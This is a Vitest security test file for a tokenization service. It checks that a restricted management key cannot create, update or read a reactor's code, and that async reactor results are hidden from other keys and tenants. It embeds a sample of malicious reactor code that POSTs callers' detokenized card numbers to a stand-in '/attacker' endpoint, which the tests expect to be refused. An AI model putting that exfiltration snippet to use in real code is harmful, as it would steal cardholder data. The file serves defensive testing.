import { describe, expect, it } from "vitest";
import { client, createTenant, type HttpResponse } from "#test/support/http.ts";
import { useLocalServer } from "#test/support/local-server.ts";
import { reactionResult as result } from "#test/support/reactors.ts";
import { useService } from "#test/support/service.ts";
import { appKey, revealEverything, type TokenBody, VISA } from "#test/support/tokens.ts";

/**
 * Attacks on reactors with their own code and on react-async results:
 * - a management key that cannot read card data (reactor:* only) writes a reactor's own code, which then sees
 *   every caller's detokenized args, or reads that code (which may embed a destination's credentials);
 * - a key other than the one that asked (same tenant, another tenant, or the same key after its grant was
 *   narrowed) fetches a react-async result, which holds what the code answered from the caller's tokens.
 */
const svc = useService({ allowPrivateDestinations: true });
const mergePatch = { "content-type": "application/merge-patch+json" };

const received: { path: string; body: string }[] = [];
const receiver = useLocalServer((req, res, body) => {
  received.push({ path: req.url ?? "", body: body.toString() });
  res.writeHead(200, { "content-type": "application/json" });
  res.end("{}");
});
const stolen = () => received.filter((r) => r.path.startsWith("/attacker") && r.body.includes(VISA));

const ECHO = "module.exports = async (req) => ({ raw: { number: req.args.number } });";
const stealing = (url: string) => `module.exports = async (req) => {
  await fetch("${url}", { method: "POST", body: JSON.stringify(req.args) });
  return { raw: { number: "nothing to see" } };
};`;

async function world() {
  const api = client(svc.url);
  const tenant = await createTenant(api, svc.rootKey);
  const member = tenant.managementKey;
  const narrow = await appKey(api, member, {
    type: "management",
    permissions: ["reactor:create", "reactor:read", "reactor:update"],
  });
  const caller = await appKey(api, member, { type: "private", rules: revealEverything });
  const token = await api.post<TokenBody>("/tokens", {
    key: caller,
    body: { type: "card_number", data: VISA },
  });
  // Unbound: no application's ceiling stands between the narrow key and the callers' data.
  const reactor = await api.post<{ id: string }>("/reactors", {
    key: member,
    body: { name: "echo", code: ECHO },
  });
  expect(reactor.status, JSON.stringify(reactor.body)).toBe(201);
  return { api, member, narrow, caller, tokenId: token.body.id, reactorId: reactor.body.id };
}

function expectRefused(res: HttpResponse) {
  expect(res.status, JSON.stringify(res.body)).toBe(403);
  expect(res.headers.get("content-type")).toContain("application/problem+json");
}

describe("attack: a key that cannot read card data writes or reads a reactor's own code", () => {
  it("refuses creating a reactor with its own code (403); nothing is stored", async () => {
    const w = await world();

    const created = await w.api.post("/reactors", {
      key: w.narrow,
      body: { name: "thief", code: stealing(`${receiver.url}/attacker`) },
    });
    const list = await w.api.get<{ data: { name: string }[] }>("/reactors", { key: w.member });

    expectRefused(created);
    expect(list.body.data.map((r) => r.name)).toEqual(["echo"]);
  });

  it("refuses changing a reactor's own code by PUT and PATCH (403); callers' data stays; the member may", async () => {
    const w = await world();
    const attacker = `${receiver.url}/attacker`;

    const put = await w.api.put(`/reactors/${w.reactorId}`, {
      key: w.narrow,
      body: { name: "echo", code: stealing(attacker) },
    });
    const patched = await w.api.patch(`/reactors/${w.reactorId}`, {
      key: w.narrow,
      headers: mergePatch,
      body: { code: stealing(attacker) },
    });
    const reacted = await w.api.post(`/reactors/${w.reactorId}/react`, {
      key: w.caller,
      body: { args: { number: `{{ ${w.tokenId} }}` } },
    });
    const byMember = await w.api.patch(`/reactors/${w.reactorId}`, {
      key: w.member,
      headers: mergePatch,
      body: { code: "module.exports = async () => ({ raw: { v: 2 } });" },
    });

    expectRefused(put);
    expectRefused(patched);
    expect(reacted.body).toEqual({ raw: { number: VISA } });
    expect(stolen()).toEqual([]);
    expect(byMember.status, JSON.stringify(byMember.body)).toBe(204);
  });

  it("answers the code only to a key that may change it: not to a reactor:read or reactor:update key", async () => {
    const w = await world();

    const asNarrow = await w.api.get(`/reactors/${w.reactorId}`, { key: w.narrow });
    const listNarrow = await w.api.get<{ data: unknown[] }>("/reactors", { key: w.narrow });
    const asMember = await w.api.get(`/reactors/${w.reactorId}`, { key: w.member });

    expect(asNarrow.status).toBe(200);
    expect(asNarrow.body).not.toHaveProperty("code");
    expect(JSON.stringify(listNarrow.body)).not.toContain("req.args.number");
    expect(asMember.body).toHaveProperty("code", ECHO);
  });
});

describe("attack: someone else fetches a react-async result", () => {
  it("answers 404 to another key of the same application, another tenant's key and the same key after its grant narrowed", async () => {
    const w = await world();
    const app = await w.api.get<{ id: string }>("/applications/key", { key: w.caller });
    const secondKey = await w.api.post<{ key: string }>(`/applications/${app.body.id}/keys`, {
      key: w.member,
    });
    const otherTenant = await createTenant(w.api, svc.rootKey, "Other");
    const outsider = await appKey(w.api, otherTenant.managementKey, {
      type: "private",
      rules: revealEverything,
    });

    const accepted = await w.api.post<{ asyncReactorRequestId: string }>(
      `/reactors/${w.reactorId}/react-async`,
      {
        key: w.caller,
        body: { args: { number: `{{ ${w.tokenId} }}` } },
      },
    );
    const id = accepted.body.asyncReactorRequestId;
    const own = await result(w.api, w.caller, w.reactorId, id);
    const path = `/reactors/${w.reactorId}/results/${id}`;
    const bySecondKey = await w.api.get(path, { key: secondKey.body.key });
    const byOutsider = await w.api.get(path, { key: outsider });
    const wrongReactor = await w.api.get(`/reactors/00000000-0000-4000-8000-000000000000/results/${id}`, {
      key: w.caller,
    });
    const narrowed = await w.api.put(`/applications/${app.body.id}`, {
      key: w.member,
      body: { name: "caller", permissions: ["token:use"] },
    });
    const afterNarrowing = await w.api.get(path, { key: w.caller });

    expect(own.body).toEqual({ raw: { number: VISA } });
    expect(secondKey.status, JSON.stringify(secondKey.body)).toBe(201);
    expect(narrowed.status, JSON.stringify(narrowed.body)).toBe(200);
    for (const res of [bySecondKey, byOutsider, wrongReactor, afterNarrowing]) {
      expect(res.status).toBe(404);
      expect(JSON.stringify(res.body)).not.toContain(VISA);
    }
  });
});
